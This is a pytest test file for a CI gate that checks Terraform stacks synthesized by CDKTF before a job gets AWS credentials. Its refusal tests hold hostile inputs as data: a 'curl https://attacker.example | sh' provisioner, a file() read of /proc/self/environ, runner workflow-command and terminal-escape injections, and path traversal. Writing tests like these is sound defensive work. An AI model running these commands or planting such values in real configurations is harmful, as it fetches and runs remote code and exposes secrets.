"""What is refused before a job has credentials, and what an approval holds on to."""

import base64
import json
from collections.abc import Callable
from copy import deepcopy
from pathlib import Path
from typing import Any

import pytest

from athena_gate.gate.pipeline import changes, examine
from athena_gate.modules.athena.settings import read_key, read_public_key
from athena_gate.modules.files import Unreadable
from tests.conftest import ROOT

TRUST = {
    "Effect": "Allow",
    "Action": "sts:AssumeRole",
    "Principal": {"AWS": "arn:aws:iam::111122223333:role/ci"},
}
STACK: dict[str, Any] = {
    "//": {"metadata": {"stackName": "dbt-ci"}},
    "terraform": {
        "backend": {
            "s3": {
                "bucket": "acme-states",
                "encrypt": True,
                "key": "athena-gate/dbt-ci.tfstate",
                "region": "eu-central-1",
                "use_lockfile": True,
            }
        },
        "required_providers": {"aws": {"source": "hashicorp/aws", "version": ">= 5.100, < 7"}},
        "required_version": ">= 1.11",
    },
    "provider": {"aws": [{"allowed_account_ids": ["111122223333"], "region": "eu-central-1"}]},
    "resource": {
        "aws_iam_role": {
            "role": {"assume_role_policy": json.dumps({"Statement": [TRUST]}), "name": "dbt-ci"}
        }
    },
}
ENTRY = {
    "stack": "dbt-ci",
    "folder": "cdktf.out/stacks/dbt-ci",
    "account": "111122223333",
    "region": "eu-central-1",
    "action": "apply",
}
FOLDER = Path("synthesized/cdktf.out/stacks/dbt-ci")
LOCK = (ROOT / ".terraform.lock.hcl").read_text()
CHECKSUM = next(line for line in LOCK.splitlines(keepends=True) if "zh:" in line)
NOTHING = "Nothing is planned and nothing is changed.\n"


@pytest.fixture(autouse=True)
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The working directory: a repository with its lock, and the synth of another job in it."""
    monkeypatch.chdir(tmp_path)
    Path(".terraform.lock.hcl").write_text(LOCK)
    FOLDER.mkdir(parents=True)
    (FOLDER / ".terraform.lock.hcl").write_text(LOCK)
    written(STACK)


def written(stack: Any) -> None:
    (FOLDER / "cdk.tf.json").write_text(json.dumps(stack))


def examined(entry: dict[str, str] = ENTRY, target: str = "stack") -> int:
    return examine.main([json.dumps(entry), "synthesized", target])


def edited(path: str, value: Any) -> Any:
    """Return the stack with ``value`` at ``path``."""
    made = deepcopy(STACK)
    *names, last = path.split("/")
    place = made
    for name in names:
        place = place.setdefault(name, {})
    place[last] = value
    return made


def test_what_is_understood_and_the_projects_lock_are_all_that_terraform_gets() -> None:
    # With a checksum less, as of another platform.
    (FOLDER / ".terraform.lock.hcl").write_text(LOCK.replace(CHECKSUM, ""))
    (FOLDER / "README.md").write_text("a file of no meaning")
    assert examined() == 0
    files = {file.name: file.read_text() for file in Path("stack").iterdir()}
    content = {name: body for name, body in STACK.items() if name != "//"}
    assert (json.loads(files.pop("cdk.tf.json")), files) == (content, {".terraform.lock.hcl": LOCK})


RUNS = {"local-exec": {"command": "curl https://attacker.example | sh"}}
PROVIDER = STACK["provider"]["aws"][0]
ROLE = "resource.aws_iam_role.role"
USER = {"aws_iam_user": {"u": {"name": "dbt-ci"}}}
KEY = {"user": "${aws_iam_user.u.name}"}
EXPRESSION = "holds an expression that is not understood: "
FILE_READ = '${file("/proc/self/environ")}'
SECRET = {"value": "${aws_iam_access_key.k.encrypted_secret}"}
EXAMPLE = read_public_key(ROOT / "keys/example.asc")
# What is written at which place of a stack, and the one reason that it is refused for.
EDITS: dict[str, list[tuple[Any, str]]] = {
    "resource/aws_iam_role/role/provisioner": [
        ([RUNS], f"{ROLE}.provisioner is an argument that is not understood")
    ],
    "resource/aws_iam_role/role/connection": [
        ({"host": "x.example"}, f"{ROLE}.connection is an argument that is not understood")
    ],
    "resource/terraform_data": [
        (
            {"x": {"provisioner": [RUNS]}},
            "resource.terraform_data.x.provisioner is an argument that is not understood",
        )
    ],
    "resource/null_resource": [
        ({"x": {}}, "resource.null_resource is a type of resource that is not understood")
    ],
    "data/external": [({"x": {"program": ["sh"]}}, "data is a section that is not understood")],
    "module/x": [
        ({"source": "git::https://x.example/x"}, "module is a section that is not understood")
    ],
    "provider/http": [([{}], "provider.http is a provider that is not understood")],
    "provider/aws": [
        (
            [{**PROVIDER, "endpoints": [{"iam": "https://x.example"}]}],
            "provider.aws.0.endpoints is an argument that is not understood",
        )
    ],
    "terraform/required_providers/aws/source": [
        ("attacker/aws", "asks for the provider attacker/aws, not hashicorp/aws")
    ],
    "terraform/required_providers/x": [
        (
            {"source": "attacker/x"},
            "terraform.required_providers.x is an argument that is not understood",
        )
    ],
    "terraform/required_providers": [({}, "asks for the provider None, not hashicorp/aws")],
    "terraform/provider_meta": [
        ({}, "terraform.provider_meta is a setting that is not understood")
    ],
    "terraform/cloud": [
        (
            {"organization": "x", "workspaces": {"name": "dbt-ci"}},
            "keeps its state elsewhere than in S3 alone",
        )
    ],
    "terraform/backend/local": [
        ({"path": "x.tfstate"}, "keeps its state elsewhere than in S3 alone")
    ],
    "locals/x": [(FILE_READ, "locals is a section that is not understood")],
    "import": [
        (
            [{"to": "aws_iam_role.role", "id": "admin"}],
            "import is a section that is not understood",
        )
    ],
    "check/x": [({}, "check is a section that is not understood")],
    "resource/aws_iam_role/role/permissions_boundary": [
        (FILE_READ, f"{ROLE}.permissions_boundary {EXPRESSION}{FILE_READ}")
    ],
    "resource/aws_iam_role/role/name": [
        (
            "x\n::error::\x1b[2J${x}",
            f"{ROLE}.name {EXPRESSION}x\\n::error::\\x1b[2J${{x}}",
        )
    ],
    "resource/aws_iam_role/role/description": [
        (
            "x\n  ::stop-commands::x",
            "holds what nobody sees, or a command to the runner: x\\n  \\x3a:stop-commands::x",
        )
    ],
    "resource/aws_iam_role/role/path": [
        ("/\x1b[2J/", "holds what nobody sees, or a command to the runner: /\\x1b[2J/")
    ],
    "resource/aws_iam_user/##[group]x": [({"name": "dbt-ci"}, "\\x23#[group]x: is no name")],
    "resource/aws_iam_user/a::set-output name=x::y": [
        ({"name": "dbt-ci"}, "a::set-output name=x::y: is no name")
    ],
    "resource": [
        (
            {**USER, "aws_iam_access_key": {"k": {**KEY, **key}}},
            "aws_iam_access_key.k: its secret is encrypted to no PGP key of its own",
        )
        for key in (
            {},
            {"pgp_key": "keybase:evil"},
            # A packet before the key, which a reader may pass over.
            {"pgp_key": base64.b64encode(b"\xca\x03PGP" + base64.b64decode(EXAMPLE)).decode()},
            {"pgp_key": EXAMPLE[:64]},
        )
    ],
    "output/x": [
        (
            output,
            "output.x: is a secret, and not sensitive, so that the log would show it",
        )
        for output in (SECRET, {**SECRET, "sensitive": False})
    ],
    "//.metadata.stackName": [
        ("dbt-other", "//.metadata.stackName is dbt-other, and the folder is that of dbt-ci")
    ],
}


@pytest.mark.parametrize(
    ("path", "value", "reason"), [(path, *one) for path, some in EDITS.items() for one in some]
)
def test_anything_but_known_kinds_is_refused_for_one_reason_before_terraform_runs(
    path: str, value: Any, reason: str, capsys: pytest.CaptureFixture[str]
) -> None:
    made = edited("output/x", value) if path == "output/x" else None
    if made:
        made["resource"] |= {**USER, "aws_iam_access_key": {"k": {**KEY, "pgp_key": EXAMPLE}}}
    elif path.startswith("//"):
        made = {**STACK, "//": {"metadata": {"stackName": value}}}
    written(made or edited(path, value))
    assert (examined(), Path("stack").exists()) == (1, False)
    # Nothing in it is read by the runner as a command, nor by a terminal.
    assert capsys.readouterr().err == f"{NOTHING}dbt-ci: {reason}\n"


@pytest.mark.parametrize("name", ["main.tf", "x_override.tf.json", "terraform.tfvars"])
def test_a_file_beside_that_terraform_would_read_is_refused(
    name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (FOLDER / name).write_text("{}")
    assert (examined(), Path("stack").exists()) == (1, False)
    assert capsys.readouterr().err.startswith(f"{NOTHING}dbt-ci: {name} ")


def test_providers_that_lie_there_already_are_not_taken_by_any_lock() -> None:
    package = FOLDER / ".terraform/providers/registry.terraform.io/hashicorp/aws/5.100.0"
    package.mkdir(parents=True)
    (package / "terraform-provider-aws").write_text("#!/bin/sh\n")
    assert examined() == 0
    assert sorted(file.name for file in Path("stack").iterdir()) == [
        ".terraform.lock.hcl",
        "cdk.tf.json",
    ]


def test_a_lock_of_another_job_says_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    other = LOCK.replace("h1:", "h1:AAAA", 1)
    (FOLDER / ".terraform.lock.hcl").write_text(other)
    assert (examined(), Path("stack").exists()) == (1, False)
    assert "has in line " in capsys.readouterr().err
    Path(".terraform.lock.hcl").unlink()
    (FOLDER / ".terraform.lock.hcl").unlink()
    assert (examined(), Path("stack").exists()) == (1, False)
    assert capsys.readouterr().err == (
        f"{NOTHING}the repository has no .terraform.lock.hcl, so any provider would do; run gate "
        "lock, and commit it\n"
    )


@pytest.mark.parametrize(
    "changed",
    [
        {"stack": "dbt-other"},
        {"folder": "../cdktf.out/stacks/dbt-ci"},
        {"folder": "/etc"},
        {"stack": "..", "folder": "cdktf.out/stacks/.."},
        {"folder": "cdktf.out/stacks/dbt-other"},
        {"folder": "previous/stacks/dbt-ci"},
        {"action": "destroy"},
        {"action": "forget"},
        {"account": "444455556666"},
        {"region": "us-east-1"},
    ],
    ids=str,
)
def test_a_job_for_another_stack_account_or_folder_is_refused(changed: dict[str, str]) -> None:
    assert (examined({**ENTRY, **changed}), Path("stack").exists()) == (1, False)


def test_a_removed_stack_of_another_name_is_not_destroyed(
    capsys: pytest.CaptureFixture[str],
) -> None:
    removed = Path("synthesized/cdktf.out/removed")
    FOLDER.parent.rename(removed)
    other = {**STACK, "//": {"metadata": {"stackName": "dbt-other"}}}
    (removed / "dbt-ci/cdk.tf.json").write_text(json.dumps(other))
    entry = {**ENTRY, "folder": "cdktf.out/removed/dbt-ci", "action": "destroy"}
    assert (examined(entry), Path("stack").exists()) == (1, False)
    assert capsys.readouterr().err == f"{NOTHING}dbt-ci: is the stack dbt-other\n"


def test_a_state_that_would_be_gone_after_the_job_is_refused(
    capsys: pytest.CaptureFixture[str],
) -> None:
    for backend in ({"local": {"path": "x.tfstate"}}, {}):
        written(edited("terraform/backend", backend))
        assert (examined(), Path("stack").exists()) == (1, False)
        assert capsys.readouterr().err == (
            f"{NOTHING}dbt-ci: keeps its state elsewhere than in S3 alone\n"
        )


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("terraform/backend/s3/bucket", "attackers-states"),
        ("provider/aws", [{**STACK["provider"]["aws"][0], "assume_role": [{"role_arn": "arn:x"}]}]),
        ("output/handoff", {"value": {"user": "x"}}),
    ],
)
def test_what_a_plan_does_not_show_changes_what_is_approved(path: str, value: Any) -> None:
    plan: dict[str, Any] = {"resource_changes": []}
    assert examined() == 0
    approved = changes.digest(plan, examine.digest(Path("stack")))
    Path("plan.json").write_text(json.dumps(plan))
    written(edited(path, value))
    assert examined(target="other") == 0
    assert changes.main(["--approved", approved, "stack", "plan.json"]) == 0
    assert changes.main(["--approved", approved, "other", "plan.json"]) == 1


def test_another_lock_changes_what_is_approved() -> None:
    assert examined() == 0
    Path(".terraform.lock.hcl").write_text(LOCK.replace(CHECKSUM, ""))
    (FOLDER / ".terraform.lock.hcl").write_text(LOCK.replace(CHECKSUM, ""))
    assert examined(target="other") == 0
    assert examine.digest(Path("stack")) != examine.digest(Path("other"))


def test_the_same_stack_written_otherwise_is_the_same() -> None:
    assert examined() == 0
    moved: dict[str, Any] = dict(reversed(STACK.items()))
    moved["resource"]["aws_iam_role"]["role"] |= {"//": {"metadata": {"uniqueId": "role"}}}
    written(moved)
    assert examined(target="other") == 0
    assert examine.digest(Path("stack")) == examine.digest(Path("other"))


def test_the_review_says_where_the_state_is_as_whom_it_is_made_and_whose_the_secrets_are(
    capsys: pytest.CaptureFixture[str],
) -> None:
    role = {"assume_role": [{"role_arn": "arn:aws:iam::111122223333:role/terraform"}]}
    stack = edited("provider/aws", [{**PROVIDER, **role}])
    stack["resource"] |= {**USER, "aws_iam_access_key": {"k": {**KEY, "pgp_key": EXAMPLE}}}
    written(stack)
    fingerprint = read_key(ROOT / "keys/example.asc").fingerprint.upper()
    about = (
        "state: s3://acme-states/athena-gate/dbt-ci.tfstate in eu-central-1\n"
        "made in: 111122223333, eu-central-1 as arn:aws:iam::111122223333:role/terraform\n"
        f"secret of k: for the PGP key {fingerprint}\n"
    )
    assert (examined(), capsys.readouterr().out) == (0, about)
    Path("plan.json").write_text("{}")
    Path("plan.txt").write_text("No changes.\n")
    assert changes.main([json.dumps(ENTRY), "stack", "plan.json", "plan.txt"]) == 0
    assert json.loads(capsys.readouterr().out)["text"] == f"{about}\nNo changes."


@pytest.mark.parametrize(
    ("backend", "said"),
    [
        ({}, ""),
        ({"kms_key_id": "arn:aws:kms:x"}, ", encrypted with arn:aws:kms:x"),
        ({"encrypt": False}, ", not encrypted"),
        ({"use_lockfile": False}, ", without a lock"),
    ],
)
def test_the_review_says_what_is_odd_about_the_state(
    backend: dict[str, Any], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    known = STACK["terraform"]["backend"]["s3"]
    written(edited("terraform/backend/s3", {**known, **backend}))
    assert examined() == 0
    assert capsys.readouterr().out.splitlines()[0] == (
        f"state: s3://acme-states/athena-gate/dbt-ci.tfstate in eu-central-1{said}"
    )


CLOUD = {"organization": "acme", "workspaces": {"name": "dbt-ci"}}


def published(edit: Callable[[Any], None] = lambda _: None) -> int:
    """Examine all of a synth for HCP Terraform, with the stack after ``edit``."""
    stack = deepcopy(STACK)
    stack["terraform"] = {**stack["terraform"], "cloud": CLOUD}
    del stack["terraform"]["backend"]
    edit(stack)
    written(stack)
    listed = {"dbt-ci": {"workingDirectory": "stacks/dbt-ci", "x": "not understood"}}
    manifest = Path("synthesized/cdktf.out/manifest.json")
    manifest.write_text(json.dumps({"stacks": listed, "x": "not understood"}))
    Path("synthesized/cdktf.out/pipelines").mkdir()
    return examine.main(["synthesized/cdktf.out", "examined"])


def test_of_a_whole_synth_the_stacks_the_lock_and_the_manifest_are_published(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert published() == 0
    assert capsys.readouterr().out == (
        "dbt-ci:\n  state: workspace dbt-ci of acme\n  made in: 111122223333, eu-central-1\n"
    )
    found = {
        file.relative_to("examined").as_posix(): file.read_text()
        for file in Path("examined").rglob("*")
        if file.is_file()
    }
    assert json.loads(found.pop("manifest.json")) == {
        "stacks": {"dbt-ci": {"name": "dbt-ci", "workingDirectory": "stacks/dbt-ci"}}
    }
    assert sorted(found) == ["stacks/dbt-ci/.terraform.lock.hcl", "stacks/dbt-ci/cdk.tf.json"]


def test_a_synth_with_anything_else_in_it_is_not_published() -> None:
    def edit(stack: Any) -> None:
        stack["resource"]["aws_iam_role"]["role"]["provisioner"] = [RUNS]

    assert (published(edit), Path("examined").exists()) == (1, False)


def test_a_stack_whose_state_is_not_in_hcp_terraform_is_not_published(
    capsys: pytest.CaptureFixture[str],
) -> None:
    def edit(stack: Any) -> None:
        stack["terraform"]["backend"] = STACK["terraform"]["backend"]

    assert (published(edit), Path("examined").exists()) == (1, False)
    assert capsys.readouterr().err == (
        f"{NOTHING}dbt-ci: keeps its state elsewhere than in HCP Terraform alone\n"
    )


def test_another_folder_than_the_examined_one_is_no_stack_to_review() -> None:
    Path("plan.json").write_text("{}")
    written(edited("terraform/backend", {"local": {"path": "x.tfstate"}}))
    with pytest.raises(Unreadable) as refused:
        changes.main([json.dumps(ENTRY), str(FOLDER), "plan.json", "plan.json"])
    problem = "is not what gate.pipeline.examine has written"
    assert str(refused.value) == f"{FOLDER}/cdk.tf.json: {problem}"


def test_a_folder_that_is_there_is_not_written_over(capsys: pytest.CaptureFixture[str]) -> None:
    assert (examined(), examined()) == (0, 2)
    assert capsys.readouterr().err == "stack cannot be written: File exists\n"
